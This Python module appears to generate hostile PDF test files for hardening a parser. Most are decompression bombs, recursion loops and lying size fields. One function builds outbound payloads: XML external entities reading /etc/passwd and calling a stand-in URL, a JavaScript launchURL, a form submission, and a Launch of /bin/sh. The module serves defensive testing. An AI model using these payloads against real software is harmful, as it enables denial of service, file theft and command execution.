"""PDFs that mean harm, each made by a function: bombs, loops, lies about sizes, and things that reach out."""

from __future__ import annotations

import zlib
from collections.abc import Callable

Make = Callable[[str], bytes]  # takes the address of a server that nobody may call

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
TEXT = b"BT /F 12 Tf 50 700 Td (Ships lie at the pier.) Tj ET"


def pdf(objects: dict[int, bytes], *, trailer: bytes = b"", root: int = 1) -> bytes:
    """A well-formed file of these objects."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(content: bytes = b"", *, page: bytes = b"", resources: bytes = b"", **more: bytes) -> bytes:
    """A page with `content`; `more` are further objects, o7= is number 7."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE % (resources, page),
        4: content or stream(TEXT),
        5: FONT,
    }
    return pdf(objects | {int(name[1:]): data for name, data in more.items()})


def deflated(piece: bytes, times: int) -> bytes:
    """`piece` so many times, packed without ever being there whole."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + one * times + packer.flush()


def _flate_bomb(url: str) -> bytes:
    bomb = deflated(b" " * (10 << 20), 1000)  # 10 GB
    return one_page(stream(zlib.compress(zlib.compress(bomb)), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def _text_bomb(url: str) -> bytes:
    return one_page(stream(deflated(b"BT /F 9 Tf 5 5 Td (ship) Tj ET\n" * 30_000, 2000), b"/Filter/FlateDecode"))


def _filter_chain(url: str) -> bytes:
    data = TEXT
    for _ in range(200):
        data = b"".join(bytes([len(part) - 1]) + part for part in (data[i : i + 128] for i in range(0, len(data), 128)))
        data += b"\x80"
    return one_page(stream(data, b"/Filter[" + b"/RunLengthDecode" * 200 + b"]"))


def _run_length_bomb(url: str) -> bytes:
    inner = b"\x81 " * 200_000 + b"\x80"  # 25 MB of blanks
    twice = zlib.compress(b"\x81\x81" * 100_000)
    filters = b"/Filter[/FlateDecode/RunLengthDecode/RunLengthDecode/ASCII85Decode/LZWDecode]"
    return one_page(stream(twice, filters), o7=stream(inner, b"/Filter/RunLengthDecode"))


def _nested(opening: bytes, closing: bytes) -> Make:
    def make(url: str) -> bytes:
        depth = 100_000
        return one_page(page=b"/Nested " + opening * depth + closing * depth)

    return make


def _nested_content(url: str) -> bytes:
    return one_page(stream(b"[" * 1_000_000 + TEXT + b"<<" * 100_000 + b"q " * 1_000_000))


def _kids_loop(url: str) -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"})


def _kids_circle(url: str) -> bytes:
    node = b"<</Type/Pages/Kids[%d 0 R]/Count 5/Parent %d 0 R>>"
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: node % (3, 4), 3: node % (4, 2), 4: node % (2, 3)})


def _prev_loop(url: str) -> bytes:
    data = one_page()
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root", b"/Prev %d/Root" % start)


def _prev_lies(url: str) -> bytes:
    return one_page().replace(b"/Root", b"/Prev 99999999999999999999/XRefStm -5/Root")


def _object_stream_loop(url: str) -> bytes:
    inner = (
        b"1 0 2 40 3 80 "
        + b"<</Type/Catalog/Pages 2 0 R>>".ljust(40)
        + b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(40)
    )
    packed = stream(inner + PAGE % (b"", b""), b"/Type/ObjStm/N 3/First 14/Extends 7 0 R")
    fields = b"".join(bytes([2, 0, 7, n]) for n in range(8))
    table = stream(fields, b"/Type/XRef/W[1 2 1]/Size 8/Root 1 0 R")
    out = b"%PDF-1.7\n7 0 obj\n" + packed + b"\nendobj\n"
    return out + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (table, len(out))


def _form_loop(url: str) -> bytes:
    form = stream(b"/X Do " + TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 7 0 R>>>>")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 7 0 R>>", o7=form)


def _form_laughs(url: str) -> bytes:
    """Each form shows the next one ten times: 10^12 times the text."""
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
    forms = {f"o{n}": stream(b"/X Do " * 10 + TEXT, entries % (n + 1)) for n in range(7, 19)}
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 7 0 R>>", **forms, o19=stream(TEXT, entries % 19))


def _type3_loop(url: str) -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 8 0 R>>/Resources<</Font<</F 7 0 R>>>>>>"
    )
    content = stream(b"BT /F 1 Tf (aaaaaaaaaa) Tj ET")
    return one_page(content, o7=font, o8=content).replace(b"/Font<</F 5 0 R>>", b"/Font<</F 7 0 R>>", 1)


def _endless_content(url: str) -> bytes:
    return one_page(stream(deflated(b"0 0 m 9 9 l S q 1 0 0 1 1 1 cm\n" * 10_000, 20_000), b"/Filter/FlateDecode"))


def _same_page_a_million_times(url: str) -> bytes:
    kids = b"<</Type/Pages/Kids[" + b"3 0 R " * 1_000_000 + b"]/Count 1000000>>"
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: kids, 3: PAGE % (b"", b""), 4: stream(TEXT), 5: FONT})


def _slow_pages(url: str) -> bytes:
    """Nine thousand times the same page, which takes a tenth of a second."""
    kids = b"<</Type/Pages/Kids[" + b"3 0 R " * 9_000 + b"]/Count 9000>>"
    content = stream(deflated(b"BT /F 9 Tf 5 5 Td (ship) Tj ET\n" * 100, 300), b"/Filter/FlateDecode")
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: kids, 3: PAGE % (b"", b""), 4: content, 5: FONT})


def _page_laughs(url: str) -> bytes:
    """Nine levels of ten: a thousand million pages in twelve objects."""
    objects = {1: b"<</Type/Catalog/Pages 11 0 R>>", 3: PAGE % (b"", b""), 4: stream(TEXT), 5: FONT}
    for level in range(9):
        kid = 3 if level == 0 else 10 + level
        objects[11 + level] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % kid * 10, 10 ** (level + 1))
    return pdf({**objects, 1: b"<</Type/Catalog/Pages 19 0 R>>"})


def _count(value: bytes) -> Make:
    return lambda url: one_page().replace(b"/Count 1", b"/Count " + value)


def _image(entries: bytes, data: bytes = b"\x00" * 64) -> Make:
    def make(url: str) -> bytes:
        image = stream(data, b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8" + entries)
        content = stream(b"q 600 0 0 800 0 0 cm /I Do Q")
        return one_page(content, resources=b"/XObject<</I 7 0 R>>", o7=image)

    return make


def _box(value: bytes) -> Make:
    return lambda url: one_page().replace(b"[0 0 600 800]", value)


def _xref_lies(url: str) -> bytes:
    data = one_page()
    head, _, table = data.partition(b"xref\n0")
    return head + b"xref\n0" + table.replace(b" 00000 n", b" 99999 n").replace(b"000000", b"999999")


def _many_updates(url: str) -> bytes:
    out = bytearray(one_page())
    before = out.rindex(b"xref\n0")
    for _ in range(10_000):
        place = len(out)
        out += b"4 0 obj\n%s\nendobj\n" % stream(TEXT)
        table = len(out)
        out += b"xref\n4 1\n%010d 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\n" % (place, before)
        out += b"startxref\n%d\n%%%%EOF\n" % table
        before = table
    return bytes(out)


def _length_loop(url: str) -> bytes:
    content = b"<</Length 4 0 R>>\nstream\n" + TEXT + b"\n"
    return one_page(content)


def _wide_mapping(url: str) -> bytes:
    mapping = stream(
        b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange 100 beginbfrange\n"
        + b"<00000000> <ffffffff> <0041>\n" * 100
        + b"endbfrange endcmap"
    )
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[8 0 R]/ToUnicode 9 0 R>>"
    return one_page(o5=font, o8=b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/DW 1000>>", o9=mapping)


def _outline_loop(url: str) -> bytes:
    return one_page(
        o1=b"<</Type/Catalog/Pages 2 0 R/Outlines 7 0 R/PageLabels 9 0 R>>",
        o7=b"<</Type/Outlines/First 8 0 R/Last 8 0 R/Count 99999>>",
        o8=b"<</Title(loop)/Parent 7 0 R/First 8 0 R/Next 8 0 R/Prev 8 0 R/Dest[3 0 R/Fit]>>",
        o9=b"<</Kids[9 0 R 9 0 R]/Nums[0<</S/D/St 2147483647/P(\x1b[2J)>>]>>",
    )


def _fields(url: str) -> bytes:
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/V(value)/Parent 8 0 R/Kids[8 0 R]/Rect[0 0 9 9]>>"
    return one_page(
        page=b"/Annots[" + b"8 0 R " * 300_000 + b"]",
        o1=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + b"8 0 R " * 300_000 + b"]>>>>",
        o8=field,
    )


def _reaching_out(url: str) -> bytes:
    """Actions, a content stream that is another file, and a form in XML with entities."""
    link = url.encode()
    form = stream(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "%s">]>'
        b'<xdp xmlns="http://ns.adobe.com/xdp/">&a;&b;</xdp>' % link
    )
    return one_page(
        b"<</Length 0/F(/etc/passwd)/FFilter null>>\nstream\n\nendstream",
        page=b"/AA<</O<</S/URI/URI(%s)>>>>" % link,
        o1=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 7 0 R>>/OpenAction 8 0 R>>",
        o7=form,
        o8=b"<</S/JavaScript/JS(app.launchURL('%s');)/Next[<</S/SubmitForm/F(%s)>><</S/Launch/F(/bin/sh)>>]>>"
        % (link, link),
    )


PDFS: dict[str, Make] = {
    "flate_bomb": _flate_bomb,
    "text_bomb": _text_bomb,
    "filter_chain": _filter_chain,
    "run_length_bomb": _run_length_bomb,
    "nested_arrays": _nested(b"[", b"]"),
    "nested_dictionaries": _nested(b"<</A ", b">>"),
    "nested_content": _nested_content,
    "kids_loop": _kids_loop,
    "kids_circle": _kids_circle,
    "prev_loop": _prev_loop,
    "prev_lies": _prev_lies,
    "object_stream_loop": _object_stream_loop,
    "form_loop": _form_loop,
    "form_laughs": _form_laughs,
    "type3_loop": _type3_loop,
    "endless_content": _endless_content,
    "same_page_a_million_times": _same_page_a_million_times,
    "page_laughs": _page_laughs,
    "slow_pages": _slow_pages,
    "count_2_31": _count(b"2147483647"),
    "count_negative": _count(b"-1"),
    "count_endless": _count(b"9" * 400),
    "image_100000": _image(b"/Width 100000/Height 100000"),
    "image_fax": _image(b"/Width 65000/Height 900000/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 65000>>"),
    "image_jpx": _image(b"/Width 1/Height 1/Filter/JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff" * 999),
    "image_jbig2": _image(b"/Width 99999/Height 99999/Filter/JBIG2Decode", b"\x00\x00\x00\x000" + b"\xff" * 99),
    "box_endless": _box(b"[0 0 1e38 1e38]"),
    "box_negative": _box(b"[9e9 9e9 -9e9 -9e9]"),
    "box_of_names": _box(b"[/A/B(c)null]"),
    "xref_lies": _xref_lies,
    "many_updates": _many_updates,
    "length_loop": _length_loop,
    "wide_mapping": _wide_mapping,
    "outline_loop": _outline_loop,
    "fields": _fields,
    "reaching_out": _reaching_out,
    "header_alone": lambda url: b"%PDF-1.7",
    "zeros": lambda url: b"%PDF-1.7\n" + bytes(5 << 20),
    "half": lambda url: one_page()[:300],
}
